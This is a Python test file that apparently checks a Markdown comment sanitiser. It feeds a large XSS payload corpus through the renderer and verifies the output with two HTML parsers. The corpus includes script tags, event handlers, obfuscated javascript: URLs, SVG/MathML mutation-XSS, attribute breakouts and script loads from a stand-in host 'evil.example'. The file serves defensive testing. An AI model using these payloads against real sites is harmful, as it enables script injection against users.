"""The sanitiser against an XSS corpus, checked with real HTML parsers, plus what it should keep.

Every vector goes through `render_markdown` (the road every comment body takes) and the output
is parsed twice, by html5lib (the browser's parsing algorithm, vendored in bleach) and by
Python's html.parser; `find_problems` lists anything outside the allow-list. The sanity tests
at the bottom feed `find_problems` known-bad HTML so a checker that accepts everything fails.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from bleach._vendor import html5lib

from consult.core.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    clean_html,
    render_markdown,
)

SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
# What a URL parser drops before it reads the scheme: C0 controls, space, DEL, C1 controls,
# and (stricter than browsers, which drop only tab and newline inside a URL) anywhere.
_CONTROL_OR_SPACE = re.compile(
    r"[\x00-\x20\x7f-\x9f\u00a0\u1680\u2000-\u200b\u2028\u2029\u202f\u205f\u3000\ufeff]"
)
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_EVENT_ATTR_IN_TAG = re.compile(r"<[^>]*[\s/\"']on[a-z]+\s*=", re.IGNORECASE)


def normalise_url(value: str) -> str:
    """Unescape entities (twice, in case of double encoding), drop controls, lowercase."""
    return _CONTROL_OR_SPACE.sub("", html.unescape(html.unescape(value))).lower()


def url_scheme(value: str) -> str | None:
    match = _SCHEME.match(normalise_url(value))
    return match.group(1) if match else None


def _check_element(tag: str, attrs: list[tuple[str, str]], parser: str) -> list[str]:
    problems = []
    if tag not in ALLOWED_TAGS:
        problems.append(f"{parser}: tag <{tag}> is not allowed")
    allowed = set(ALLOWED_ATTRIBUTES.get(tag, ()))
    for name, value in attrs:
        name = name.lower()
        value = value or ""
        if name.split(":")[-1].startswith("on"):
            problems.append(f"{parser}: event-handler attribute {name}= on <{tag}>")
        if name not in allowed:
            problems.append(f"{parser}: attribute {name}= is not allowed on <{tag}>")
        decoded = normalise_url(value)
        if "javascript:" in decoded or "vbscript:" in decoded:
            problems.append(f"{parser}: script URL in {name}={value!r}")
        if "<script" in value.lower():
            problems.append(f"{parser}: '<script' inside {name}={value!r}")
        if name == "href":
            scheme = url_scheme(value)
            if scheme is not None and scheme not in SAFE_SCHEMES:
                problems.append(f"{parser}: href scheme {scheme!r} in {value!r}")
    if tag == "a":
        rel = dict(attrs).get("rel")
        if rel != LINK_REL:
            problems.append(f"{parser}: <a> has rel={rel!r}, expected {LINK_REL!r}")
    return problems


def _html5lib_problems(markup: str) -> list[str]:
    fragment = html5lib.parseFragment(markup, treebuilder="etree", namespaceHTMLElements=False)
    problems = []
    for element in fragment.iter():
        if element is fragment:
            continue
        if not isinstance(element.tag, str):  # etree Comment / ProcessingInstruction
            problems.append(f"html5lib: comment or processing instruction {element.text!r}")
            continue
        # Foreign content (SVG, MathML) keeps a namespace: "{http://www.w3.org/2000/svg}svg".
        tag = element.tag.split("}")[-1].lower()
        if element.tag.startswith("{"):
            problems.append(f"html5lib: foreign element {element.tag}")
        attrs = [(k.split("}")[-1], v) for k, v in element.attrib.items()]
        problems.extend(_check_element(tag, attrs, "html5lib"))
    return problems


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.problems.extend(_check_element(tag, attrs, "html.parser"))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data):
        self.problems.append(f"html.parser: comment {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"html.parser: declaration {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"html.parser: processing instruction {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"html.parser: unknown declaration {data!r}")


def _stdlib_problems(markup: str) -> list[str]:
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    return collector.problems


def find_problems(markup: str) -> list[str]:
    """Everything in `markup` that the allow-list should have removed; [] when safe."""
    problems = []
    lowered = markup.lower()
    if "<script" in lowered:
        problems.append("raw: '<script' in the output")
    if _EVENT_ATTR_IN_TAG.search(markup):
        problems.append("raw: an on*= attribute inside a tag")
    if re.search(r"<[^>]*\bonerror\s*=", lowered):
        problems.append("raw: onerror= inside a tag")
    problems.extend(_html5lib_problems(markup))
    problems.extend(_stdlib_problems(markup))
    return problems


def _p(vector_id: str, source: str):
    return pytest.param(source, id=vector_id)


# fmt: off
XSS_VECTORS = [
    # <script> in all its shapes
    _p("script-basic", "<script>alert(1)</script>"),
    _p("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    _p("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    _p("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _p("script-unclosed", "<script>alert(1)"),
    _p("script-unclosed-tag", "<script src=//evil.example/x.js"),
    _p("script-src", "<script src=//evil.example/x.js></script>"),
    _p("script-slash-attr", "<script/xss src=//evil.example/x.js></script>"),
    _p("script-newlines", "<script\n>alert(1)</script\n>"),
    _p("script-html-block", "para\n\n<script>\nalert(1)\n</script>\n\nafter"),
    _p("script-in-list", "- item\n- <script>alert(1)</script>"),
    _p("script-in-quote", "> <script>alert(1)</script>"),
    _p("script-in-emphasis", "**<script>alert(1)</script>**"),
    # event handlers
    _p("img-onerror", "<img src=x onerror=alert(1)>"),
    _p("img-onerror-flag", '<img src=x onerror="window.__xss=1">'),
    _p("svg-onload", "<svg onload=alert(1)>"),
    _p("svg-slash-onload", "<svg/onload=alert(1)>"),
    _p("body-onload", "<body onload=alert(1)>"),
    _p("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    _p("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    _p("video-onerror", "<video src=x onerror=alert(1)></video>"),
    _p("audio-onerror", "<audio src=x onerror=alert(1)>"),
    _p("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    _p("input-onfocus-autofocus", "<input onfocus=alert(1) autofocus>"),
    _p("select-onfocus-autofocus", "<select autofocus onfocus=alert(1)></select>"),
    _p("div-onmouseover", '<div onmouseover="alert(1)">hover me</div>'),
    _p("a-onmouseover", '<a href="https://example.org" onmouseover="alert(1)">x</a>'),
    _p("b-onclick-inline", "**bold** and <b onclick=alert(1)>this</b>"),
    _p("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    _p("custom-element-onclick", "<x-foo onclick=alert(1)>custom</x-foo>"),
    # javascript: / vbscript: / data: in Markdown links
    _p("md-link-javascript", "[x](javascript:alert(1))"),
    _p("md-link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
    _p("md-link-javascript-mixed", "[x](JaVaScRiPt:alert(1))"),
    _p("md-link-javascript-angle", "[x](<javascript:alert(1)>)"),
    _p("md-link-javascript-leading-space", "[x](   javascript:alert(1))"),
    _p("md-link-javascript-title", '[x](javascript:alert(1) "title")'),
    _p("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    _p("md-link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    _p("md-link-data-html-raw", "[x](data:text/html,<script>alert(1)</script>)"),
    _p("md-link-escaped-colon", "[x](javascript\\:alert(1))"),
    _p("md-link-nested", "[[x](javascript:alert(1))](https://example.org)"),
    _p("ref-link-javascript", "[x][1]\n\n[1]: javascript:alert(1)"),
    _p("ref-link-javascript-title", '[x][a]\n\n[a]: javascript:alert(1) "title"'),
    _p("ref-link-javascript-mixed", "[x]\n\n[x]: JavaScript:alert(1)"),
    _p("ref-link-entity", "[x][1]\n\n[1]: &#106;avascript:alert(1)"),
    _p("autolink-javascript", "<javascript:alert(1)>"),
    _p("autolink-javascript-upper", "<JAVASCRIPT:alert(1)>"),
    _p("autolink-vbscript", "<vbscript:msgbox(1)>"),
    _p("autolink-data", "<data:text/html,alert(1)>"),
    # entity- and percent-encoded schemes
    _p("entity-decimal-j", "[x](&#106;avascript:alert(1))"),
    _p("entity-hex-j", "[x](&#x6A;avascript:alert(1))"),
    _p("entity-hex-padded", "[x](&#x0006A;avascript:alert(1))"),
    _p("entity-every-char",
       "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))"),
    _p("entity-tab-inside", "[x](java&#x09;script:alert(1))"),
    _p("entity-newline-inside", "[x](java&#x0A;script:alert(1))"),
    _p("entity-named-tab", "[x](java&Tab;script:alert(1))"),
    _p("entity-colon-named", "[x](javascript&colon;alert(1))"),
    _p("entity-colon-decimal", "[x](javascript&#58;alert(1))"),
    _p("percent-scheme", "[x](%6A%61vascript:alert(1))"),
    _p("percent-colon", "[x](javascript%3Aalert(1))"),
    _p("raw-a-entity-href", '<a href="&#106;avascript:alert(1)">x</a>'),
    _p("raw-a-tab-entity-href", '<a href="java&#x09;script:alert(1)">x</a>'),
    # whitespace and control characters
    _p("tab-in-scheme", "[x](java\tscript:alert(1))"),
    _p("newline-in-scheme", "[x](java\nscript:alert(1))"),
    _p("nul-in-scheme", "[x](java\x00script:alert(1))"),
    _p("leading-control-char", "[x](\x01javascript:alert(1))"),
    _p("leading-backspace", "[x](\x08javascript:alert(1))"),
    _p("leading-nbsp", "[x](\u00a0javascript:alert(1))"),
    _p("zero-width-space", "[x](java\u200bscript:alert(1))"),
    _p("ref-link-tab", "[x][1]\n\n[1]: java\tscript:alert(1)"),
    # SVG and MathML
    _p("svg-script", "<svg><script>alert(1)</script></svg>"),
    _p("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    _p("svg-a-xlink-href",
       '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>'),
    _p("svg-set-href",
       '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'),
    _p("svg-foreignobject",
       "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    _p("svg-use-data",
       '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1)/></svg>#x"/>'
       "</svg>"),
    _p("mathml-maction-href",
       '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
       "</math>"),
    _p("mathml-mglyph-style-mxss",
       "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
       "</table></mtext></math>"),
    _p("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    _p("noembed-mxss", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    # embedding and navigation elements
    _p("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _p("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    _p("object-data", '<object data="javascript:alert(1)"></object>'),
    _p("embed-src", '<embed src="data:text/html,<script>alert(1)</script>">'),
    _p("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    _p("base-href", '<base href="javascript:alert(1)//">'),
    _p("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    _p("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    _p("link-stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'),
    _p("isindex", "<isindex action=javascript:alert(1) type=image>"),
    _p("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    _p("template-script", "<template><script>alert(1)</script></template>"),
    _p("xmp-img", "<xmp><img src=x onerror=alert(1)></xmp>"),
    _p("plaintext-img", "<plaintext><img src=x onerror=alert(1)>"),
    _p("textarea-breakout", "</textarea><script>alert(1)</script>"),
    _p("div-breakout", "</div></article><script>alert(1)</script>"),
    # CSS
    _p("style-tag-expression", "<style>body{background:expression(alert(1))}</style>"),
    _p("style-tag-import", "<style>@import 'javascript:alert(1)';</style>"),
    _p("style-attr-expression", '<p style="width: expression(alert(1))">x</p>'),
    _p("style-attr-url", '<div style="background:url(javascript:alert(1))">x</div>'),
    # images
    _p("img-src-javascript", '<img src="javascript:alert(1)">'),
    _p("md-image-javascript", "![x](javascript:alert(1))"),
    _p("md-image-data-svg", "![x](data:image/svg+xml,<svg onload=alert(1)>)"),
    _p("md-image-data-svg-base64", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    _p("md-image-title-breakout", '![x](https://example.org/x.png "\\" onerror=\\"alert(1)")'),
    _p("md-image-reference", "![x][1]\n\n[1]: javascript:alert(1)"),
    # malformed tags
    _p("img-slash-src", "<img/src=x onerror=alert(1)>"),
    _p("double-lt-img", "<<img src=x onerror=alert(1)>"),
    _p("a-javascript-unclosed", '<a href="javascript:alert(1)"'),
    _p("img-unclosed", "<img src=x onerror=alert(1)"),
    _p("img-backtick-attr", "<img src=`x` onerror=alert(1)>"),
    _p("img-quote-confusion", '<img """><script>alert(1)</script>">'),
    _p("img-newline-attrs", "<img\nsrc=x\nonerror=alert(1)\n>"),
    _p("img-nul-in-attr", "<img src=x o\x00nerror=alert(1)>"),
    # comments, CDATA and other markup declarations
    _p("html-comment", "<!-- <img src=x onerror=alert(1)> -->"),
    _p("html-comment-breakout", "<!--><img src=x onerror=alert(1)>-->"),
    _p("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    _p("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    _p("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    _p("doctype", "<!DOCTYPE html><script>alert(1)</script>"),
    # text that looks like a template
    _p("jinja-expression", "{{7*7}}"),
    _p("jinja-config", "{{ config.items() }}"),
    _p("jinja-statement", "{% for x in range(3) %}x{% endfor %}"),
    _p("angular-constructor", "{{constructor.constructor('alert(1)')()}}"),
    _p("js-template-literal", "${alert(1)}"),
    # link titles and URLs that try to break out of the attribute
    _p("title-double-quote-breakout", '[a](http://x "\\" onmouseover=alert(1) x=\\"")'),
    _p("title-single-quote-breakout", "[a](https://example.org 'x\\' onmouseover=alert(1)')"),
    _p("title-paren-breakout", '[a](https://example.org (x" onmouseover="alert(1)))'),
    _p("url-quote-breakout", '[a](https://example.org/"onmouseover="alert(1))'),
    _p("url-angle-quote-breakout", '[a](<https://example.org/" onmouseover="alert(1)>)'),
    _p("ref-title-breakout", '[a][1]\n\n[1]: https://example.org "\\" onclick=alert(1) \\""'),
    # code must be escaped, never rendered
    _p("code-inline-script", "`<script>alert(1)</script>`"),
    _p("code-inline-img", "`<img src=x onerror=alert(1)>`"),
    _p("code-fenced-img", "```html\n<img src=x onerror=alert(1)>\n```"),
    _p("code-indented-script", "    <script>alert(1)</script>"),
    _p("code-fence-info-breakout", '```"><script>alert(1)</script>\nx\n```'),
    _p("code-inline-md-link", "`[x](javascript:alert(1))`"),
    # HTML inside link text
    _p("link-text-img", "[<img src=x onerror=alert(1)>](https://example.org)"),
    _p("link-text-a", '[<a href="javascript:alert(1)">x</a>](https://example.org)'),
    _p("link-text-script", "[**<script>alert(1)</script>**](https://example.org)"),
    _p("link-text-svg", "[<svg onload=alert(1)>](https://example.org)"),
    # bare URLs turned into links after sanitising
    _p("linkify-javascript-slashes", "javascript://example.org/%0Aalert(1)"),
    _p("linkify-vbscript-slashes", "vbscript://example.org"),
    _p("linkify-quote-breakout", 'https://example.org/"onmouseover="alert(1)"'),
    _p("linkify-angle-breakout", "https://example.org/<script>alert(1)</script>"),
    _p("linkify-data-scheme", "data://example.com/html,alert(1)"),
    _p("linkify-ftp-scheme", "ftp://example.org/file.txt"),
    _p("linkify-irc-scheme", "irc://example.org/channel"),
    _p("linkify-ssh-scheme", "ssh://example.org"),
    _p("linkify-xmpp-scheme", "xmpp:example.org"),
    # entities and look-alikes that must stay text
    _p("escaped-script-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    _p("double-escaped-script-text", "&amp;lt;script&amp;gt;alert(1)"),
    _p("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    _p("target-blank-opener", '<a href="https://example.org" target="_blank" rel="opener">x</a>'),
]
# fmt: on


def test_the_corpus_is_large_and_its_ids_are_unique():
    ids = [p.id for p in XSS_VECTORS]
    assert len(ids) >= 70
    assert len(set(ids)) == len(ids)


@pytest.mark.parametrize("source", XSS_VECTORS)
def test_render_markdown_neutralises_xss_vector(source: str):
    output = render_markdown(source)
    assert find_problems(output) == [], output


@pytest.mark.parametrize("source", XSS_VECTORS)
def test_render_markdown_output_is_stable_when_cleaned_again(source: str):
    """Sanitising the output again changes nothing: no mutation-XSS round trip."""
    output = render_markdown(source)
    assert clean_html(output) == output


# --- what the sanitiser keeps -----------------------------------------------------------------

REL = f'rel="{LINK_REL}"'


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param("**bold**", "<p><strong>bold</strong></p>", id="bold"),
        pytest.param("__bold__", "<p><strong>bold</strong></p>", id="bold-underscores"),
        pytest.param("*em*", "<p><em>em</em></p>", id="em"),
        pytest.param("_em_", "<p><em>em</em></p>", id="em-underscore"),
        pytest.param("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>", id="bullet-list"),
        pytest.param("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>", id="ordered-list"),
        pytest.param("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>", id="quote"),
        pytest.param("`x = 1`", "<p><code>x = 1</code></p>", id="inline-code"),
        pytest.param(
            "```python\nprint('<b>')\n```",
            "<pre><code>print('&lt;b&gt;')\n</code></pre>",
            id="fenced-code",
        ),
        pytest.param("line one  \nline two", "<p>line one<br>\nline two</p>", id="hard-break"),
        pytest.param(
            "[link](https://example.org)",
            f'<p><a href="https://example.org" {REL}>link</a></p>',
            id="link",
        ),
        pytest.param(
            "[mail](mailto:someone@example.org)",
            f'<p><a href="mailto:someone@example.org" {REL}>mail</a></p>',
            id="mailto-link",
        ),
        pytest.param(
            "[read](/policies/nsp-2022-2026#NC-2)",
            f'<p><a href="/policies/nsp-2022-2026#NC-2" {REL}>read</a></p>',
            id="relative-link",
        ),
        pytest.param(
            '[t](https://example.org "A title")',
            f'<p><a href="https://example.org" {REL}>t</a></p>',
            id="link-title-dropped",
        ),
        pytest.param(
            "See https://example.org/a?b=1 now",
            f'<p>See <a href="https://example.org/a?b=1" {REL}>https://example.org/a?b=1</a>'
            " now</p>",
            id="bare-url-linkified",
        ),
        pytest.param(
            "www.example.org",
            f'<p><a href="http://www.example.org" {REL}>www.example.org</a></p>',
            id="bare-www-linkified",
        ),
        pytest.param(
            "<https://example.org>",
            f'<p><a href="https://example.org" {REL}>https://example.org</a></p>',
            id="autolink",
        ),
        pytest.param(
            "`https://example.org`",
            "<p><code>https://example.org</code></p>",
            id="url-in-code-not-linked",
        ),
    ],
)
def test_render_markdown_keeps_simple_markdown(source: str, expected: str):
    assert render_markdown(source) == expected
    assert find_problems(expected) == []


def test_headings_rules_and_images_are_not_rendered():
    output = render_markdown(
        "# Heading\n\nTitle\n=====\n\n---\n\n![alt](https://example.org/x.png)"
    )
    for tag in ("<h1", "<h2", "<hr", "<img"):
        assert tag not in output
    assert "# Heading" in output
    assert find_problems(output) == []


def test_markdown_image_becomes_at_most_a_plain_link():
    output = render_markdown("![alt](https://example.org/x.png)")
    assert "<img" not in output
    assert output == f'<p>!<a href="https://example.org/x.png" {REL}>alt</a></p>'


def test_code_shows_html_as_text():
    output = render_markdown("`<img src=x onerror=alert(1)>`")
    assert output == "<p><code>&lt;img src=x onerror=alert(1)&gt;</code></p>"


def test_template_syntax_stays_literal_text():
    assert render_markdown("{{7*7}} {% raw %}") == "<p>{{7*7}} {% raw %}</p>"


# --- clean_html on HTML that did not come from the renderer ----------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        pytest.param(
            "<p>Hi <strong>there</strong></p>",
            "<p>Hi <strong>there</strong></p>",
            id="keeps-allowed",
        ),
        pytest.param(
            "<script>alert(1)</script><p>x</p>", "alert(1)<p>x</p>", id="strips-script-tag"
        ),
        pytest.param(
            '<p style="color:red" class="x" id="y">a</p>', "<p>a</p>", id="drops-attributes"
        ),
        pytest.param(
            '<a href="https://example.org" target="_blank" onclick="x()">a</a>',
            f'<a href="https://example.org" {REL}>a</a>',
            id="rewrites-link",
        ),
        pytest.param(
            '<a href="javascript:alert(1)">a</a>', f"<a {REL}>a</a>", id="drops-javascript-href"
        ),
        pytest.param(
            '<a href="java&#x09;script:alert(1)">a</a>',
            f"<a {REL}>a</a>",
            id="drops-encoded-javascript-href",
        ),
        pytest.param("<h1>Big</h1><img src=x onerror=alert(1)>", "Big", id="strips-h1-img"),
        pytest.param("<!-- note --><em>e</em>", "<em>e</em>", id="strips-comments"),
    ],
)
def test_clean_html(raw: str, expected: str):
    output = clean_html(raw)
    assert output == expected
    assert find_problems(output) == []


@pytest.mark.parametrize("source", XSS_VECTORS)
def test_clean_html_neutralises_xss_vector_as_raw_html(source: str):
    """The same corpus fed to clean_html as if it were imported HTML."""
    assert find_problems(clean_html(source)) == []


# --- the checker itself must be able to fail -------------------------------------------------


@pytest.mark.parametrize(
    "unsafe",
    [
        pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
        pytest.param("<script>alert(1)</script>", id="script"),
        pytest.param(
            '<a href="javascript:alert(1)" rel="nofollow ugc noopener">x</a>', id="javascript-href"
        ),
        pytest.param(
            '<a href="&#106;avascript:alert(1)" rel="nofollow ugc noopener">x</a>',
            id="entity-javascript-href",
        ),
        pytest.param(
            '<a href="java&#x09;script:alert(1)" rel="nofollow ugc noopener">x</a>',
            id="tab-javascript-href",
        ),
        pytest.param(
            '<a href=" JAVASCRIPT:alert(1)" rel="nofollow ugc noopener">x</a>',
            id="spaced-uppercase-href",
        ),
        pytest.param(
            '<a href="data:text/html,x" rel="nofollow ugc noopener">x</a>', id="data-href"
        ),
        pytest.param(
            '<a href="ftp://example.org" rel="nofollow ugc noopener">x</a>', id="ftp-href"
        ),
        pytest.param('<a href="https://example.org">x</a>', id="missing-rel"),
        pytest.param(
            '<a href="https://example.org" rel="nofollow ugc noopener" target="_blank">x</a>',
            id="extra-attribute",
        ),
        pytest.param('<p onclick="x()">x</p>', id="onclick"),
        pytest.param('<p title="x">x</p>', id="attribute-on-p"),
        pytest.param("<iframe></iframe>", id="iframe"),
        pytest.param("<svg><circle/></svg>", id="svg"),
        pytest.param("<!-- x -->", id="comment"),
        pytest.param('<div style="x">y</div>', id="div-style"),
    ],
)
def test_checker_flags_unsafe_html(unsafe: str):
    assert find_problems(unsafe) != []


def test_checker_accepts_safe_html():
    assert (
        find_problems(
            f'<p>a <a href="https://example.org/?q=1&amp;r=2" {REL}>b</a> &lt;script&gt;</p>'
            f'<ul><li><a href="#x" {REL}>c</a></li>'
            f'<li><a href="mailto:a@b.org" {REL}>d</a></li></ul>'
        )
        == []
    )


def test_url_scheme_normalises_like_a_browser():
    assert url_scheme("&#106;ava&#x09;script:x") == "javascript"
    assert url_scheme(" \x01JavaScript:x") == "javascript"
    assert url_scheme("HTTPS://example.org") == "https"
    assert url_scheme("/relative:colon") is None
    assert url_scheme("%6A%61vascript:x") is None  # not a scheme: browsers resolve it as a path
    assert url_scheme("#anchor") is None
